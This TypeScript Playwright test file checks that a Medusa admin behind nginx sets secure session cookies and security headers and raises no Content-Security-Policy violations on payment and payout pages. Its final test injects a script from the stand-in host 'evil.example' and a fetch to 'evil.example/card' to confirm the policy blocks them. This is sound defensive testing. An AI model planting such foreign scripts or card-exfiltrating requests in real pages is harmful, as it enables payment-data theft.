import type { Browser, BrowserContext, Page } from "playwright-core"
import { StoreProcess } from "../chaos/support/store-process"
import { adminBuild } from "../e2e/support/admin-build"
import { startChromium } from "../e2e/support/chromium"
import { type End, endAll } from "../e2e/support/ends"
import { signInByForm } from "../e2e/support/sign-in-by-form"
import { Stage } from "../e2e/support/stage"
import { until } from "../http/support/until"
import { theExample } from "../docs/support/examples-of"
import { describeWith } from "./support/describe-with"
import { Nginx } from "./support/nginx"
import { inProduction, productionFolder } from "./support/production"

// The first start of all makes a database.
jest.setTimeout(300_000)

type Violation = { directive: string; blocked: string }

/** Every page on which money moves, and those of Medusa's that staff live in. */
const PAGES = [
  "/sbp",
  "/sbp/payments",
  "/sbp/payouts",
  "/sbp/payouts/create",
  "/settings/sbp",
  "/orders",
  "/products",
  "/settings/regions",
]

describeWith(
  ["nginx", "chromium"],
  "the admin, under the policy of docs/deployment.md",
  () => {
    const ends: End[] = []
    let browser: Browser
    let nginx: Nginx
    let context: BrowserContext
    let page: Page
    let violations: Violation[]

    beforeAll(async () => {
      browser = await startChromium()
      ends.push(() => browser.close())
      const stage = await Stage.open("policy", ends)
      const build = await adminBuild()
      const site = theExample("deployment.md", "nginx", "server {")
      nginx = await Nginx.start(site, { upstream: stage.storePort })
      ends.push(() => nginx.stop())
      const env = inProduction(stage, nginx.origin)
      const store = await StoreProcess.start(env, productionFolder(build))
      ends.push(() => store.kill())
    })
    afterAll(() => endAll(ends))

    beforeEach(async () => {
      violations = []
      context = await browser.newContext({
        baseURL: nginx.origin,
        ignoreHTTPSErrors: true,
      })
      await context.exposeFunction("tell", (violation: Violation) => {
        if (!isProbe(violation)) {
          violations.push(violation)
        }
      })
      await context.addInitScript(
        `addEventListener("securitypolicyviolation", (event) => tell({
         directive: event.effectiveDirective, blocked: event.blockedURI }))`
      )
      page = await context.newPage()
    })
    afterEach(() => context.close())

    it("lets people in by its form, with a cookie for https only", async () => {
      await page.goto("/app/login")
      await signInByForm(page)
      await page.getByRole("link", { name: "SBP" }).click()
      await page.waitForURL("**/app/sbp")
      const cookies = await context.cookies()
      const session = cookies.find(({ name }) => name === "connect.sid")
      expect(session).toMatchObject({ secure: true, httpOnly: true })
      expect(violations).toEqual([])
    })

    it("has its headers on every page", async () => {
      for (const address of ["/app", "/app/sbp/payouts/create"]) {
        const response = await page.goto(address)
        expect(response?.headers()).toMatchObject({
          "content-security-policy": expect.stringContaining(
            "script-src 'self'; "
          ) as string,
          "strict-transport-security": "max-age=31536000",
          "x-content-type-options": "nosniff",
          "referrer-policy": "same-origin",
        })
      }
    })

    it("needs nothing that the policy refuses", async () => {
      await page.goto("/app/login")
      await signInByForm(page)
      for (const address of PAGES) {
        await page.goto(`/app${address}`)
        await page.getByRole("heading").first().waitFor()
        await page.waitForLoadState("networkidle")
      }
      expect(violations).toEqual([])
    })

    it("lacks the flags of countries, as the page says", async () => {
      await page.goto("/app/login")
      await signInByForm(page)
      await page.goto("/app/settings/tax-regions")
      await page.getByRole("link", { name: "Russia" }).first().waitFor()
      await page.waitForLoadState("networkidle")
      const flag =
        "https://cdn.jsdelivr.net/gh/lipis/flag-icons/flags/4x3/ru.svg"
      expect(violations).toEqual([{ directive: "img-src", blocked: flag }])
    })

    it("runs and asks nobody else, whatever gets into the page", async () => {
      await page.goto("/app/login")
      await page.getByPlaceholder("Email").waitFor()
      await page.evaluate(`(() => {
      const inline = document.createElement("script")
      inline.textContent = "window.ran = true"
      const foreign = document.createElement("script")
      foreign.src = "https://evil.example/x.js"
      document.body.append(inline, foreign)
      fetch("https://evil.example/card").catch(() => {})
    })()`)
      await until(
        () => Promise.resolve(violations.length === 3),
        "three refusals"
      )
      expect(await page.evaluate("window.ran")).toBeUndefined()
    })
  }
)

/** Medusa's copy of zod tries once whether it may, and does without. */
function isProbe({ directive, blocked }: Violation): boolean {
  return directive === "script-src" && blocked === "eval"
}
